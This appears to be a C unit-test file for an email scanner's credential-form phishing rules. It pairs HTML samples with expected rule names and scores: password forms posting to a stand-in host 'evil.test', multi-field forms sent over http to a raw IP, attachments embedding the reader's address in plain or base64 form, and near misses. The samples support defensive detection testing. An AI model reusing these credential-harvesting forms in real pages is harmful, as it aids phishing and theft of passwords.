/* credential_form: forms that ask for passwords. */
#include "bench.h"

#define A(href, text) "<p>Hello, please look at <a href=\"" href "\">" text "</a> today.</p>"
#define HTML .type = "text/html"

static const struct row rows[] = {
	{ "password",
	  { HTML,
	    .body =
		"<form action=\"https://evil.test/p\"><input name=u><input type=password name=p></form>" },
	  "credential_form.password",
	  0.9 },
	{ "upper case",
	  { HTML, .body = "<form action=\"https://evil.test/p\"><INPUT TYPE=PASSWORD></form>" },
	  "credential_form.password",
	  0.9 },
	{ "in quotes",
	  { HTML, .body = "<form action=\"https://evil.test/p\"><input type='password'></form>" },
	  "credential_form.password",
	  0.9 },
	{ "without a form", { HTML, .body = "<input type=password>" }, "credential_form.password", 0.9 },
	{ "no action",
	  { HTML, .body = "<form><input type=password></form>" },
	  "credential_form.password",
	  0.9 },
	{ "own action",
	  { HTML, .body = "<form action=\"https://www.sender.test/p\"><input name=u><input type=password "
			  "name=p></form>" },
	  "credential_form.password",
	  0.9 },
	{ "second form",
	  { HTML, .body = "<form><input name=q></form><form><input type=password></form>" },
	  "credential_form.password",
	  0.9 },
	{ "behind text",
	  { HTML, .body = "<p>Your mailbox is full.</p><table><tr><td><input type=password></table>" },
	  "credential_form.password",
	  0.9 },
	{ "several fields to a stranger",
	  { HTML,
	    .body =
		"<form action=\"https://evil.test/p\"><input name=a><input name=b><input name=c></form>" },
	  "credential_form.fields",
	  0.4 },
	{ "several fields over http",
	  { HTML,
	    .body =
		"<form action=\"http://203.0.113.9/p\"><input name=a><input name=b><input name=c></form>" },
	  "credential_form.fields",
	  0.4 },
	{ "a page that knows its reader",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes = STR_INIT("<html><body><script>var e=1;</script>bob@home.test</body></html>") },
	  "credential_form.page_knows_reader",
	  0.8 },
	{ "a page with a form for its reader",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes = STR_INIT("<html><body><form><input value=BOB@home.test></form></body></html>") },
	  "credential_form.page_knows_reader",
	  0.8 },
	{ "a page that knows it in base64",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes =
		STR_INIT("<html><body><script>var e=atob('Ym9iQGhvbWUudGVzdA==');</script></body></html>") },
	  "credential_form.page_knows_reader",
	  0.8 },
	/* near misses */
	{ "a search",
	  { HTML, .body = "<form action=\"https://evil.test/p\"><input name=q></form>" },
	  NULL,
	  0 },
	{ "two fields",
	  { HTML, .body = "<form action=\"https://evil.test/p\"><input name=q><input type=submit></form>" },
	  NULL,
	  0 },
	{ "several fields to the sender",
	  { HTML, .body = "<form action=\"https://www.sender.test/p\"><input name=a><input name=b><input "
			  "name=c></form>" },
	  NULL,
	  0 },
	{ "several fields to nobody",
	  { HTML, .body = "<form><input name=a><input name=b><input name=c></form>" },
	  NULL,
	  0 },
	{ "the word alone", { HTML, .body = "<p>Never tell your password.</p>" }, NULL, 0 },
	{ "written, not markup", { HTML, .body = "<p>&lt;input type=password&gt;</p>" }, NULL, 0 },
	{ "plain text", { .body = "<input type=password>\r\n" }, NULL, 0 },
	{ "in a comment", { HTML, .body = "<p>Hello</p><!-- a form was here -->" }, NULL, 0 },
	{ "a password in a script's name",
	  { HTML, .body = "<a href=\"https://www.sender.test/password\">Password</a>" },
	  NULL,
	  0 },
	{ "a page without script",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes = STR_INIT("<html><body>For bob@home.test</body></html>") },
	  NULL,
	  0 },
	{ "a page that knows another",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes = STR_INIT("<html><body><script>x</script>eve@home.test</body></html>") },
	  NULL,
	  0 },
	{ "a page without address",
	  { .file = "a.html",
	    .file_type = "text/html",
	    .file_bytes = STR_INIT("<html><body><form><input name=q></form></body></html>") },
	  NULL,
	  0 },
	{ "a text file with it",
	  { .file = "a.txt", .file_type = "text/plain", .file_bytes = STR_INIT("bob@home.test") },
	  NULL,
	  0 },
};

static void test_rows(void **state)
{
	(void)state;
	bench_table(rows, ARRAY_LEN(rows), "credential_form");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
